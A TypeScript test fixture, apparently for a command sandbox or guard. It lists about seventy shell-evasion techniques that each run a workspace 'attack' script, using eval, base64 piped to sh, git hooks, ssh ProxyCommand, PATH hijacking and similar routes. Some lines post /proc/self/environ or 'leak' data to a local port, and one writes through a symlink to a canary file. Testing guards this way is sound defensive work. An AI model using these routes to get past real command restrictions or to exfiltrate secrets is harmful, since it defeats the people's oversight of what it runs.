/** What every attempt runs in the end: a script of the workspace. */
export const attack = 'bash /workspace/attack';

/** A text that runs the attack by each technique of the table of escapes, as far as this machine has the programs. */
export const attempts: { readonly [technique: string]: (port: number) => string } = {
  'piped here-documents': () => `cat <<EOF | bash\n${attack}\nEOF`,
  'aliases and configuration': () => `git -c alias.x='!${attack}' x`,
  tar: () => `tar cf a f; tar xf a --to-command='${attack}'`,
  arithmetic: () => `a='x[$(${attack})]'; echo $((a))`,
  builtins: () => `command -p ${attack}`,
  busybox: () => `busybox sh -c '${attack}'`,
  conditions: () => `[[ -n $(${attack}) ]]`,
  containers: (port) => `docker -H tcp://127.0.0.1:${port} run --net host alpine true`,
  'control flow': () => `if ${attack}; then :; fi`,
  editors: () => `vim -es -c '!${attack}' -c q f`,
  elsewhere: () => `tmux new-session -d '${attack}'; sleep 1`,
  env: () => `env -S '${attack}'`,
  'environment that runs code': () => `BASH_ENV=/workspace/attack bash -c true`,
  eval: () => `eval '${attack}'`,
  exec: () => `exec ${attack}`,
  'expanded name': () => `$'\\x62ash' /workspace/attack`,
  find: () => `find f -exec ${attack} \\;`,
  functions: () => `f() { ${attack}; }; f`,
  git: () =>
    `git init -q r && cd r && git config user.name a && git config user.email a@b && git commit -q --allow-empty -m a; git rebase -q --root --exec '${attack}'`,
  'git settings': () => `git init -q s && cd s && git -c core.fsmonitor='${attack}' status`,
  grouping: () => `{ ${attack}; }`,
  lists: () => `false || ${attack}`,
  namespaces: () => `unshare -r ${attack} || unshare -n ${attack}`,
  'option that runs': () => `sort --compress-program=/workspace/attack -S 1K -o o big`,
  'package runners': () => `npm exec --offline -c '${attack}'`,
  pagers: () => `LESSOPEN='|${attack}' less f`,
  'program path': () => `/bin/../bin/${attack}`,
  quoting: () => `b'as'"h" /workspace/at\\tack`,
  redirection: () => `cat <(${attack})`,
  remote: (port) => `ssh -o StrictHostKeyChecking=no -o ConnectTimeout=1 -p ${port} 127.0.0.1 true`,
  'shell -c': () => `sh -c '${attack}'`,
  'shell input': () => `echo '${attack}' | sh`,
  source: () => `. <(echo '${attack}')`,
  substitution: () => `echo "$(${attack})"`,
  sudo: () => `sudo -n ${attack} || su -c '${attack}' || ${attack}`,
  time: () => `timeout 9 ${attack}`,
  tracers: () => `strace -f -o /dev/null ${attack} || gdb -batch -ex '!${attack}'`,
  trap: () => `trap '${attack}' EXIT`,
  'unknown forwarder': () =>
    `printf '#!/bin/sh\\n"$@"\\n' > mytool; chmod +x mytool; ./mytool ${attack}`,
  wrappers: () => `nohup setsid -w nice -n 1 ${attack}`,
  xargs: () => `echo /workspace/attack | xargs bash`,
  awk: () => `awk 'BEGIN{system("${attack}")}'`,
  'build tools': () => `make --eval='x:;${attack}' x`,
  coproc: () => `coproc ${attack}; wait`,
  interpreters: (port) =>
    `node -e 'require("net").connect(${port},"127.0.0.1").on("error",()=>0).end("leak"); require("child_process").execSync("${attack}")'`,
  languages: () => `perl -e 'system("${attack}")'`,
  make: () => `printf 'test:\\n\\t@${attack}\\n' > Makefile; make test`,
  network: (port) => `echo leak | openssl s_client -connect 127.0.0.1:${port}; ${attack}`,
  sed: () => `sed '1e ${attack}' f`,
  variables: () => `X=bash; $X /workspace/attack`,
  'written then run': () => `echo '${attack}' > w.sh && sh w.sh`,
  'new lines and Unicode': () => `ls\n${attack}`,
  'here-documents': () => `bash <<A\n${attack}\nA`,
  'redirections before the command': () => `>o ${attack}`,
  'encodings piped to a shell': () =>
    `echo ${Buffer.from(attack).toString('base64')} | base64 -d | sh`,
  'shell by another name': () => `cp /bin/sh ./rc; ./rc -c '${attack}'`,
  'interpreters by another name': () =>
    `sqlite3 :memory: '.shell ${attack}' || perl5* -e 'x' || ${attack}`,
  'programs with commands of their own': () => `split --f='${attack}' f`,
  'ssh options': () => `ssh -oProxyCommand='${attack}' x`,
  'network by other programs': (port) =>
    `curl -m 2 -d @/proc/self/environ http://127.0.0.1:${port}; wget -T 2 -t 1 -q -O- http://127.0.0.1:${port}; git ls-remote git://127.0.0.1:${port}/x; ${attack}`,
  'git hooks': () =>
    `git init -q h && cd h && git config user.name a && git config user.email a@b && printf '#!/bin/sh\\n${attack}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit --allow-empty -m a`,
  'git options': () => `git init -q u; git ls-remote --upload-pack='${attack};' ./u`,
  'written code': () =>
    `echo 'require("child_process").execSync("${attack}")' > lib.js; node -r ./lib.js -e 0`,
  'copies of binaries': () => `cp /bin/bash ./ls2 && ./ls2 attack`,
  'options that only look like information': () =>
    `python3 -v -c 'import os; os.system("${attack}")' || tclsh -h <<< 'exec ${attack}'`,
  'variables of programs': () =>
    `printf 'RUN ?= true\\ntest:\\n\\t@$(RUN)\\n' > Makefile; RUN='${attack}' make test`,
  'other forwarders': () => `choom -n 1 -- ${attack} || x86_64 ${attack} || setarch -R ${attack}`,
  'functions that are not there': () =>
    `f() { :; }; unset -f f; printf '#!/bin/sh\\n${attack}\\n' > f2; chmod +x f2; false && /workspace/f2() { :; }; /workspace/f2`,
  'outputs that are no redirections': () =>
    `echo '${attack}' > once; uniq once made-by-uniq.sh; bash made-by-uniq.sh`,
  archives: () =>
    `echo '${attack}' > p.sh; tar cf p.tar p.sh; ar rc p.a p.sh; rm p.sh; ar x p.a || tar xf p.tar; bash p.sh`,
  'symbolic links': () =>
    `ln -s /bin/bash l && ./l attack; ln -s "$(cat canary-path)" k; echo stolen > k`,
  PATH: () => `printf '#!/bin/sh\\n${attack}\\n' > date; chmod +x date; PATH=.:$PATH date`,
  'dynamic linker': () => `/lib64/ld-linux-x86-64.so.2 /bin/bash /workspace/attack`,
  'package scripts': () =>
    `echo '{"scripts":{"test":"${attack}"}}' > package.json; npm test --offline --no-update-notifier`,
  'script files': () => `sh ./runs-attack`,
};
